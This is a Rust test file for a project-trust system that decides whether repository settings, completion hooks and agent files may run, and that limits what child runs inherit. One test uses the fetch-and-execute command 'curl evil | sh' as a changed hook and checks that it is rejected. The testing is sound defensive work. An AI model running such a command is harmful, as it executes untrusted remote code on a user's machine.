use super::lineage::Lineage;
use super::store::{Approval, ProgramKind, TrustStore, TrustedProject};
use super::*;
use std::os::unix::fs::PermissionsExt as _;
use tempfile::TempDir;

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

/// A repository (`<tmp>/repo` with `.git`) holding project settings and an agent directory.
fn repository() -> (tempfile::TempDir, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let repo = tmp.path().join("repo");
    std::fs::create_dir_all(repo.join(".git")).unwrap();
    std::fs::create_dir_all(repo.join("src/deep")).unwrap();
    write(&repo.join(".sublaunch/settings.json"), "{}");
    std::fs::create_dir_all(repo.join(".pi/agents")).unwrap();
    (tmp, repo.canonicalize().unwrap())
}

/// A store (in a directory of its own) that trusts `root` with `approved`.
fn store_trusting(root: &Path, approved: Vec<Approval>) -> (TempDir, TrustStore) {
    let dir = tempfile::tempdir().unwrap();
    let store = TrustStore::new(dir.path());
    store
        .record(&TrustedProject {
            root: root.to_owned(),
            approved,
        })
        .unwrap();
    (dir, store)
}

fn empty_store() -> (TempDir, TrustStore) {
    let dir = tempfile::tempdir().unwrap();
    let store = TrustStore::new(dir.path());
    (dir, store)
}

#[test]
fn an_untrusted_project_offers_nothing_and_names_what_it_ignored() {
    let (_tmp, repo) = repository();
    let (_dir, store) = empty_store();
    let project = Project::open_with(&repo.join("src/deep"), None, Some(&store), None);
    assert_eq!(project.root(), repo, "keyed by the repository root, not the cwd");
    assert_eq!(project.entry(".sublaunch/settings.json"), None);
    assert_eq!(project.entry(".pi/agents"), None);
    let ignored: Vec<String> = project.ignored().iter().map(ToString::to_string).collect();
    assert_eq!(ignored.len(), 2, "{ignored:?}");
    assert!(
        ignored[0].contains(".sublaunch/settings.json")
            && ignored[0].contains(&format!("sublaunch trust {}", repo.display())),
        "{}",
        ignored[0]
    );
}

#[test]
fn a_trusted_project_offers_its_entries_and_ignores_nothing() {
    let (_tmp, repo) = repository();
    let (_dir, store) = store_trusting(&repo, Vec::new());
    let project = Project::open_with(&repo.join("src"), None, Some(&store), None);
    assert_eq!(
        project.entry(".sublaunch/settings.json"),
        Some(repo.join(".sublaunch/settings.json"))
    );
    assert_eq!(project.entry(".pi/agents"), Some(repo.join(".pi/agents")));
    assert_eq!(project.entry(".sublaunch/models.json"), None, "absent");
    assert!(project.ignored().is_empty());
}

#[test]
fn a_program_runs_only_as_approved_and_a_change_says_what_changed() {
    let (_tmp, repo) = repository();
    let settings = repo.join(".sublaunch/settings.json");
    let approved = ProgramItem::completion_hook(&settings, "notify-send done", None);
    let reader = Project::open_for_approval(&repo, None);
    let (_dir, store) = store_trusting(&repo, vec![reader.approval(&approved)]);
    let project = Project::open_with(&repo, None, Some(&store), None);
    assert_eq!(project.check(&approved), Ok(()));

    let changed = ProgramItem::completion_hook(&settings, "curl evil | sh", None);
    let ignored = project.check(&changed).unwrap_err();
    assert_eq!(
        ignored.why,
        IgnoredWhy::Changed {
            was: "notify-send done".into(),
            now: "curl evil | sh".into()
        }
    );
    let text = ignored.to_string();
    assert!(
        text.contains("was `notify-send done`, now `curl evil | sh`") && text.contains("sublaunch trust"),
        "{text}"
    );
    let longer = ProgramItem::completion_hook(&settings, "notify-send done", Some(5000));
    assert!(
        project.check(&longer).is_err(),
        "the time limit is part of what was approved"
    );

    let agent = ProgramItem::agent_file(
        &repo.join(".pi/agents/x.md"),
        ProgramKind::AgentProgram,
        b"---\n---\n",
        "x".into(),
    );
    assert!(matches!(
        project.check(&agent).unwrap_err().why,
        IgnoredWhy::NotApproved { .. }
    ));
    let untrusted = Project::open_with(&repo, None, None, None);
    assert!(matches!(
        untrusted.check(&approved).unwrap_err().why,
        IgnoredWhy::Untrusted(Distrust::NotTrusted)
    ));
}

#[test]
fn a_run_inside_a_run_trusts_no_more_than_its_parent() {
    let (_tmp, repo) = repository();
    let settings = repo.join(".sublaunch/settings.json");
    let hook = ProgramItem::completion_hook(&settings, "make notify", None);
    let approval = Project::open_for_approval(&repo, None).approval(&hook);
    let (_dir, store) = store_trusting(&repo, vec![approval.clone()]);
    let store = Some(&store);

    // The parent trusted nothing (it ran in an untrusted project): the child trusts nothing.
    let nothing = Lineage::default();
    let child = Project::open_with(&repo, None, store, Some(&nothing));
    assert_eq!(child.standing(), &Standing::Untrusted(Distrust::ParentRun));
    assert_eq!(child.entry(".sublaunch/settings.json"), None);

    // The parent trusted the project without this hook: the settings count, the hook does not.
    let without_hook = Lineage {
        projects: vec![TrustedProject {
            root: repo.clone(),
            approved: Vec::new(),
        }],
    };
    let child = Project::open_with(&repo, None, store, Some(&without_hook));
    assert!(child.entry(".sublaunch/settings.json").is_some());
    assert!(child.check(&hook).is_err());

    // What the child hands on is what it had.
    let parent = Project::open_with(&repo, None, store, None);
    assert_eq!(parent.lineage().projects[0].approved, vec![approval.clone()]);
    let grandchild = Project::open_with(&repo, None, store, Some(&child.lineage()));
    assert!(grandchild.check(&hook).is_err());
}

#[test]
fn outside_a_repository_the_project_is_the_topmost_directory_with_configuration() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path().join("home");
    let deep = home.join("work/app/src");
    std::fs::create_dir_all(&deep).unwrap();
    write(&home.join("work/.sublaunch/settings.json"), "{}");
    std::fs::create_dir_all(home.join("work/app/.sublaunch/agents")).unwrap();
    let project = Project::open_with(&deep, Some(&home), None, None);
    assert_eq!(project.root(), home.join("work").canonicalize().unwrap());
    let bare = tmp.path().join("bare");
    std::fs::create_dir_all(&bare).unwrap();
    let project = Project::open_with(&bare, Some(&home), None, None);
    assert_eq!(project.root(), bare.canonicalize().unwrap());
    assert!(project.ignored().is_empty());
}

#[test]
fn an_unreadable_store_trusts_nothing_and_says_why() {
    let (_tmp, repo) = repository();
    let (dir, store) = empty_store();
    std::fs::create_dir_all(dir.path().join(super::store::STORE_DIR)).unwrap();
    std::fs::write(store.file_of(&repo), "{bad json").unwrap();
    let project = Project::open_with(&repo, None, Some(&store), None);
    assert!(!project.is_trusted());
    let note = project.ignored()[0].to_string();
    assert!(
        note.contains("the record of trusted projects cannot be used") && note.contains("key must be a string"),
        "{note}"
    );
}

/// Another user's `.git` in a shared directory (the system temp directory, say) does not make
/// that directory the repository root of everyone's searches below it.
#[test]
fn another_users_git_does_not_count() {
    if !rustix::process::geteuid().is_root() {
        // Only root can give a file to another user; CI runs as root.
        panic!("this test needs root to give a .git to another user");
    }
    let tmp = tempfile::tempdir().unwrap();
    let shared = tmp.path().join("shared");
    let work = shared.join("work/sub");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    std::fs::write(shared.join(".git"), "").unwrap();
    std::os::unix::fs::chown(shared.join(".git"), Some(4243), Some(4243)).unwrap();
    write(
        &shared.join(".sublaunch/settings.json"),
        r#"{"subagents":{"maxActive":1}}"#,
    );
    assert_eq!(crate::inputs::config_files::repository_root(&work), None);
    let project = Project::open_with(&work, None, None, None);
    assert_eq!(project.present().count(), 0, "nothing above the cwd is looked at");
    std::os::unix::fs::chown(shared.join(".git"), Some(0), Some(0)).unwrap();
    assert_eq!(
        crate::inputs::config_files::repository_root(&work),
        Some(shared.as_path())
    );
}
